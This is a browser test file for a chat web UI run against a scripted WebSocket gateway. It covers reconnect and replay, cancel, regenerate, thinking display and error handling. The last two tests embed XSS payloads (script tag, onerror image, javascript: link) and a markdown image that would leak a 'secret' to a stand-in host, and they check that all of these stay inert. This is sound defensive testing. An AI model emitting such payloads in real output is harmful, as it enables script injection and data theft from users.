// Browser tests of the UI against a scripted gateway (e2e/mock.mjs): the
// behaviours that need exact control of the frames (duplicates after a
// replay, refusals, close codes, hostile markup). Needs `npm run build`.

import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { forbidDialogs, launch, waitFor } from './browser.mjs';
import { mockGateway, MOCK_ORIGIN, seedSession, serveApp, SESSION } from './mock.mjs';

let browser;
before(async () => {
  browser = await launch();
});
after(async () => browser?.close());

async function open(script) {
  const page = await browser.context.newPage();
  const dialogs = forbidDialogs(page);
  await serveApp(page);
  await seedSession(page);
  const received = [];
  const urls = await mockGateway(page, (ws, url, n) => {
    ws.onMessage((f) => received.push(f));
    script(ws, url, n, received);
  });
  await page.goto(`${MOCK_ORIGIN}/`);
  return { page, dialogs, received, urls };
}

const ready = (ws, node = 'gw-a', last_seq = 0) => ws.send({ type: 'ready', session_id: SESSION.session_id, node, last_seq });
const answerOf = (page) => page.getByTestId('answer-text').last().innerText();
const clean = async (page) => {
  await page.evaluate(() => localStorage.clear());
  await page.close();
};

describe('UI against a scripted gateway', () => {
  it('Enter sends a chat frame with a client message id; Shift+Enter adds a line', async () => {
    const { page, received, urls } = await open((ws) => ready(ws));
    await page.locator('[data-testid=connection][data-state=connected]').waitFor();
    assert.equal(await page.getByTestId('node').innerText(), 'gw-a');
    // The token is the socket's first frame, never part of its URL.
    assert.equal(urls[0].searchParams.has('token'), false);
    await waitFor(() => received.length > 0, { what: 'a first frame' });
    assert.deepEqual(received[0], { type: 'auth', token: SESSION.token });
    const input = page.getByTestId('composer-input');
    await input.type('line one');
    await input.press('Shift+Enter');
    await input.type('line two');
    assert.equal(await input.inputValue(), 'line one\nline two');
    await input.press('Enter');
    const chat = await waitFor(() => received.find((f) => f.type === 'chat'), { what: 'a chat frame' });
    assert.equal(chat.content, 'line one\nline two');
    assert.match(chat.message_id, /^[0-9a-f-]{36}$/);
    assert.equal(await input.inputValue(), '');
    await clean(page);
  });

  it('after a 1012 it reconnects at once with after_seq and shows replayed text once', async () => {
    const M = 'aaaaaaaa-0000-4000-8000-00000000000a';
    const { page, urls } = await open((ws, url, n) => {
      if (n === 1) {
        ready(ws, 'gw-a');
        ws.send({ type: 'user_message', message_id: M, content: 'q', seq: 1 });
        ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 0, text: 'Hello ', seq: 2 });
        ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 1, text: 'there ', seq: 3 });
        setTimeout(() => ws.close(1012, 'restart'), 200);
      } else {
        ready(ws, 'gw-b', 5);
        // An overlapping replay: seq 2 and 3 again, then what was missed.
        ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 0, text: 'Hello ', seq: 2 });
        ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 1, text: 'there ', seq: 3 });
        ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 2, text: 'friend.', seq: 4 });
        ws.send({ type: 'done', message_id: M, attempt: 1, finish_reason: 'stop', seq: 5 });
      }
    });
    await page.locator('[data-testid=connection][data-node=gw-b]').waitFor();
    assert.equal(urls[1].searchParams.get('after_seq'), '3');
    await page.locator('[data-testid=turn][data-status=done]').waitFor();
    assert.equal(await answerOf(page), 'Hello there friend.');
    await clean(page);
  });

  it('Stop sends cancel for the streaming answer and shows it stopped', async () => {
    const M = 'bbbbbbbb-0000-4000-8000-00000000000b';
    const { page, received } = await open((ws) => {
      ready(ws);
      ws.send({ type: 'user_message', message_id: M, content: 'q', seq: 1 });
      ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 0, text: 'Once upon', seq: 2 });
      ws.onMessage((f) => {
        if (f.type === 'cancel') ws.send({ type: 'cancelled', message_id: f.message_id, seq: 3 });
      });
    });
    await page.getByTestId('stop').click();
    await page.getByTestId('stopped').waitFor();
    assert.deepEqual(received.filter((f) => f.type === 'cancel'), [{ type: 'cancel', message_id: M }]);
    assert.equal(await answerOf(page), 'Once upon');
    assert.equal(await page.getByTestId('stop').count(), 0);
    await clean(page);
  });

  it('a restart replaces the partial answer', async () => {
    const M = 'cccccccc-0000-4000-8000-00000000000c';
    const { page } = await open((ws) => {
      ready(ws);
      ws.send({ type: 'user_message', message_id: M, content: 'q', seq: 1 });
      ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 0, text: 'first try', seq: 2 });
      ws.send({ type: 'restart', message_id: M, attempt: 2, seq: 3 });
      ws.send({ type: 'chunk', message_id: M, attempt: 2, index: 0, text: 'second try', seq: 4 });
      ws.send({ type: 'done', message_id: M, attempt: 2, finish_reason: 'stop', seq: 5 });
    });
    await page.locator('[data-testid=turn][data-status=done]').waitFor();
    assert.equal(await answerOf(page), 'second try');
    await clean(page);
  });

  it('a thinking model: the Thinking section streams, collapses when the answer begins, says how long', async () => {
    const M = 'ffffffff-0000-4000-8000-00000000000f';
    const at = 1_700_000_000_000_000; // published_at_us of the first piece of reasoning
    const reasoning = (index, text, us) => ({ type: 'reasoning', message_id: M, attempt: 1, index, text, published_at_us: us, seq: 2 + index });
    let gw;
    const { page } = await open((ws) => {
      gw = ws;
      ready(ws);
      ws.send({ type: 'user_message', message_id: M, content: 'Why is the sky blue?', seq: 1 });
      ws.send(reasoning(0, 'Let me think', at));
    });
    const section = page.getByTestId('thinking');
    await page.locator('[data-testid=thinking][data-state=thinking][data-open=true]').waitFor();
    assert.equal(await page.getByTestId('thinking-label').innerText(), 'Thinking…');
    assert.equal(await page.getByTestId('thinking-text').innerText(), 'Let me think');
    assert.equal(await page.getByTestId('answer-text').count(), 0);

    // More thinking streams into the open section.
    gw.send(reasoning(1, ' about scattering.', at + 3_000_000));
    await waitFor(async () => (await page.getByTestId('thinking-text').innerText()) === 'Let me think about scattering.', {
      what: 'the reasoning to stream',
    });

    // The answer begins: the section collapses and says how long the model thought.
    gw.send({ type: 'chunk', message_id: M, attempt: 1, index: 0, text: 'Rayleigh scattering.', seq: 4 });
    await page.locator('[data-testid=thinking][data-state=thought][data-open=false]').waitFor();
    assert.equal(await page.getByTestId('thinking-label').innerText(), 'Thought for 3 s');
    assert.equal(await page.getByTestId('thinking-text').count(), 0);
    assert.equal(await answerOf(page), 'Rayleigh scattering.');
    gw.send({ type: 'done', message_id: M, attempt: 1, finish_reason: 'stop', seq: 5 });
    await page.locator('[data-testid=turn][data-status=done]').waitFor();

    // A click opens it again; the reasoning is never part of the answer.
    await page.getByTestId('thinking-toggle').click();
    assert.equal(await section.getAttribute('data-open'), 'true');
    assert.equal(await page.getByTestId('thinking-text').innerText(), 'Let me think about scattering.');
    assert.equal(await answerOf(page), 'Rayleigh scattering.');
    await clean(page);
  });

  it('a refused question shows plain words and Try again sends it anew', async () => {
    const { page, received } = await open((ws) => {
      ready(ws);
      ws.onMessage((f) => {
        if (f.type === 'chat' && received.filter((x) => x.type === 'chat').length === 1) {
          ws.send({ type: 'error', message_id: f.message_id, code: 'rate_limited', message: 'too many in flight' });
        }
      });
    });
    await page.locator('[data-testid=connection][data-state=connected]').waitFor();
    await page.getByTestId('composer-input').fill('hello');
    await page.getByTestId('composer-input').press('Enter');
    const err = page.getByTestId('turn-error');
    await err.waitFor();
    assert.match(await err.innerText(), /Too many questions at once/);
    await page.getByTestId('retry').click();
    const chats = await waitFor(() => {
      const c = received.filter((f) => f.type === 'chat');
      return c.length === 2 ? c : null;
    }, { what: 'a second chat frame' });
    assert.equal(chats[1].content, 'hello');
    assert.notEqual(chats[1].message_id, chats[0].message_id);
    await clean(page);
  });

  it('regenerate: the last answer gets a new version, and ‹ 1 / 2 › moves between them', async () => {
    const Q = 'ffffffff-0000-4000-8000-00000000000f';
    const { page, received } = await open((ws) => {
      ready(ws);
      ws.send({ type: 'user_message', message_id: Q, content: 'Tell me a fact', seq: 1 });
      ws.send({ type: 'chunk', message_id: Q, attempt: 1, index: 0, text: 'Bees can dance.', seq: 2 });
      ws.send({ type: 'done', message_id: Q, attempt: 1, finish_reason: 'stop', seq: 3 });
      ws.onMessage((f) => {
        if (f.type !== 'regenerate') return;
        ws.send({ type: 'accepted', message_id: f.message_id, seq: 4 });
        ws.send({ type: 'user_message', message_id: f.message_id, content: 'Tell me a fact', replaces: f.replaces, seq: 4 });
        ws.send({ type: 'chunk', message_id: f.message_id, attempt: 1, index: 0, text: 'Octopuses have three hearts.', seq: 5 });
        ws.send({ type: 'done', message_id: f.message_id, attempt: 1, finish_reason: 'stop', seq: 6 });
      });
    });
    await page.locator('[data-testid=turn][data-status=done]').waitFor();
    assert.equal(await page.getByTestId('version-label').count(), 0, 'one version: no navigation');
    await page.getByTestId('regenerate').click();
    const frame = await waitFor(() => received.find((f) => f.type === 'regenerate'), { what: 'a regenerate frame' });
    assert.equal(frame.replaces, Q);
    assert.match(frame.message_id, /^[0-9a-f-]{36}$/);
    assert.notEqual(frame.message_id, Q);
    const label = page.getByTestId('version-label');
    await page.locator(`[data-testid=turn][data-message-id="${frame.message_id}"][data-status=done]`).waitFor();
    assert.equal(await label.innerText(), '2 / 2');
    assert.equal(await page.getByTestId('turn').count(), 1, 'both versions in one place');
    assert.equal(await answerOf(page), 'Octopuses have three hearts.');
    assert.equal(await page.getByTestId('question').innerText(), 'Tell me a fact');

    await page.getByTestId('version-prev').click();
    await page.locator(`[data-testid=turn][data-message-id="${Q}"]`).waitFor();
    assert.equal(await label.innerText(), '1 / 2');
    assert.equal(await answerOf(page), 'Bees can dance.');
    assert.ok(await page.getByTestId('version-prev').isDisabled());
    // Regenerate replaces the latest version even while an older one is shown.
    assert.equal(await page.getByTestId('regenerate').count(), 1);

    await page.getByTestId('version-next').click();
    await page.locator(`[data-testid=turn][data-message-id="${frame.message_id}"]`).waitFor();
    assert.equal(await label.innerText(), '2 / 2');
    assert.equal(await answerOf(page), 'Octopuses have three hearts.');
    assert.ok(await page.getByTestId('version-next').isDisabled());
    await clean(page);
  });

  it('close 1008 shows the session as invalid and offers a new conversation', async () => {
    const { page, urls } = await open((ws) => ws.close(1008, 'bad token'));
    await page.getByTestId('session-invalid').waitFor();
    assert.match(await page.getByTestId('session-invalid').innerText(), /Start a new conversation/);
    await page.waitForTimeout(800);
    assert.equal(urls.length, 1, 'no reconnect loop on 1008');
    await clean(page);
  });

  it('replay_expired rebuilds the conversation from the history frame', async () => {
    const { page } = await open((ws) => {
      ready(ws, 'gw-a', 40);
      ws.send({ type: 'error', code: 'replay_expired', message: 'too old' });
      ws.send({
        type: 'history',
        last_seq: 40,
        turns: [
          { message_id: 'dddddddd-0000-4000-8000-000000000001', user: 'old question', assistant: 'old **answer**', status: 'done', created_at: 1, user_seq: 3 },
        ],
      });
    });
    await page.locator('[data-testid=turn][data-status=done]').waitFor();
    assert.equal(await answerOf(page), 'old answer');
    await page.locator('[data-testid=connection][data-state=connected]').waitFor();
    assert.equal(await page.getByTestId('notice').count(), 0);
    await clean(page);
  });

  it('a remote image in an answer is shown as a link and never requested', async () => {
    const M = 'ffffffff-0000-4000-8000-00000000000f';
    const { page } = await open((ws) => {
      ready(ws);
      ws.send({ type: 'user_message', message_id: M, content: 'q', seq: 1 });
      ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 0, text: 'Here: ![chart](http://leak.test/pixel.png?q=secret)', seq: 2 });
      ws.send({ type: 'done', message_id: M, attempt: 1, finish_reason: 'stop', seq: 3 });
    });
    const requested = [];
    page.on('request', (request) => {
      if (new URL(request.url()).hostname === 'leak.test') requested.push(request.url());
    });
    await page.locator('[data-testid=turn][data-status=done]').waitFor();
    const link = page.locator('[data-testid=answer-text] a', { hasText: 'chart' });
    assert.equal(await link.getAttribute('href'), 'http://leak.test/pixel.png?q=secret');
    assert.equal(await page.locator('[data-testid=answer-text] img').count(), 0);
    // The page is idle once the answer is drawn: any image load has started.
    await page.waitForLoadState('networkidle');
    assert.deepEqual(requested, []);
    await clean(page);
  });

  it('hostile markup in an answer is inert', async () => {
    const M = 'eeeeeeee-0000-4000-8000-00000000000e';
    const { page, dialogs } = await open((ws) => {
      ready(ws);
      ws.send({ type: 'user_message', message_id: M, content: 'q', seq: 1 });
      ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 0, text: '<script>window.__pwned=1;alert(1)</script>\n\n', seq: 2 });
      ws.send({ type: 'chunk', message_id: M, attempt: 1, index: 1, text: '<img src=x onerror="window.__pwned=2;alert(2)"> [x](javascript:alert(3))', seq: 3 });
      ws.send({ type: 'done', message_id: M, attempt: 1, finish_reason: 'stop', seq: 4 });
    });
    await page.locator('[data-testid=turn][data-status=done]').waitFor();
    await page.waitForTimeout(300);
    assert.equal(await page.locator('[data-testid=messages] script, [data-testid=messages] [onerror]').count(), 0);
    const link = page.locator('[data-testid=answer-text] a');
    if (await link.count()) assert.doesNotMatch((await link.getAttribute('href')) ?? '', /javascript:/);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    assert.deepEqual(dialogs, []);
    await clean(page);
  });
});
